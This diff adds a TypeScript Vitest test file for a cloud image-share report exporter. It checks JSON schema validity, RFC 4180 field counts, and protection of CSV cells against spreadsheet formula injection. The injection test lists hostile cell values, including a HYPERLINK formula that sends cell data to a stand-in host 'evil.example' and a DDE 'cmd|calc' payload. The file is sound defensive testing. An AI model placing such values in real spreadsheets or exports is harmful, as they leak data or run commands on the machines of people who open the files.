@@ -1,0 +1,112 @@
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { Ajv2020 } from 'ajv/dist/2020.js';
+import { expect, it } from 'vitest';
+import { reportModel } from '../../lib/report/report-model.ts';
+import { reportTables } from '../../lib/report/report-tables.ts';
+import { tableCsv } from '../../lib/report/table-csv.ts';
+import { TABLE_IDS, type Table } from '../../lib/report/table.ts';
+import { HOSTILE } from './hostile.ts';
+import { readCsv } from './read-csv.ts';
+import {
+  hostileSource,
+  image,
+  inventoryOf,
+  OPTIONS,
+  region,
+  share,
+  smallSource,
+  STRANGER,
+} from './inventories.ts';
+
+const schema = JSON.parse(
+  await readFile(join(import.meta.dirname, '../../docs/report-schema.json'), 'utf8'),
+) as object;
+const validate = new Ajv2020({ allErrors: true, allowUnionTypes: true }).compile(schema);
+
+it('the JSON is as its schema says, also where nothing is known and where names are hostile', () => {
+  const sources = [
+    smallSource(),
+    { inventory: inventoryOf(), changes: [] },
+    ...HOSTILE.map((text) => hostileSource(text)),
+  ];
+  for (const source of sources) {
+    const json: unknown = JSON.parse(JSON.stringify(reportModel(source, OPTIONS)));
+    expect(validate(json), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
+  }
+});
+
+it('the schema would notice: a number for an id, a missing field, an unknown verdict', () => {
+  const good = JSON.parse(JSON.stringify(reportModel(smallSource(), OPTIONS))) as {
+    shares: Record<string, unknown>[];
+  };
+  const [first = {}, ...rest] = good.shares;
+  const { baseline: _baseline, ...without } = first;
+  for (const wrong of [{ ...first, accountId: 1 }, without, { ...first, verdict: 'fine' }])
+    expect(validate({ ...good, shares: [wrong, ...rest] })).toBe(false);
+});
+
+const csvOf = (name: string): string =>
+  tableCsv(
+    reportTables(
+      reportModel(
+        { inventory: inventoryOf(region([image('m-a', name, [share(STRANGER, 'untrusted')])])), changes: [] },
+        OPTIONS,
+      ),
+    ).shares,
+  );
+
+it('I11: no cell begins what a spreadsheet runs, whatever separates its cells', () => {
+  const names = [
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '  =1+1',
+    '\t=1+1',
+    '\r=1',
+    '＝1+1',
+    'a;=cmd|calc!A1',
+    'a,"=1+1',
+    '"=1+1',
+    "'=1",
+    '=HYPERLINK("https://evil.example?x="&A1)',
+    ...HOSTILE,
+  ];
+  for (const name of names) {
+    const csv = csvOf(name);
+    for (const separator of [',', ';', '\t', '|'])
+      for (const cell of csv
+        .slice(1)
+        .split(/\r\n/)
+        .flatMap((line) => line.split(separator)))
+        expect(cell.replace(/^[\s"]+/, ''), JSON.stringify(name.slice(0, 60))).not.toMatch(
+          /^[=+\-@＝＋－＠]/,
+        );
+  }
+});
+
+it('an account id keeps all its digits in a spreadsheet, and a count stays a number', () => {
+  const tables = reportTables(reportModel(smallSource(), OPTIONS));
+  const shares = readCsv(tableCsv(tables.shares));
+  expect(shares[1]?.[3]).toBe(`'${STRANGER}`);
+  const accounts = readCsv(tableCsv(tables.accounts));
+  expect(accounts[1]).toEqual([`'${STRANGER}`, '', '2', 'not trusted', 'cn-hangzhou, cn-shanghai']);
+});
+
+it('RFC 4180: every line of every table has as many fields as its head, whatever the names', () => {
+  for (const text of HOSTILE) {
+    const what = text.slice(0, 60);
+    const tables: Record<string, Table> = reportTables(reportModel(hostileSource(text), OPTIONS));
+    for (const id of TABLE_IDS) {
+      const table = tables[id];
+      const csv = tableCsv(table as Table);
+      expect(csv.startsWith('\uFEFF"'), id).toBe(true);
+      const lines = readCsv(csv);
+      expect(lines, `${what} in ${id}`).toHaveLength((table?.rows.length ?? 0) + 1);
+      expect(new Set(lines.map((line) => line.length)), `${what} in ${id}`).toEqual(
+        new Set([table?.columns.length]),
+      );
+    }
+  }
+});
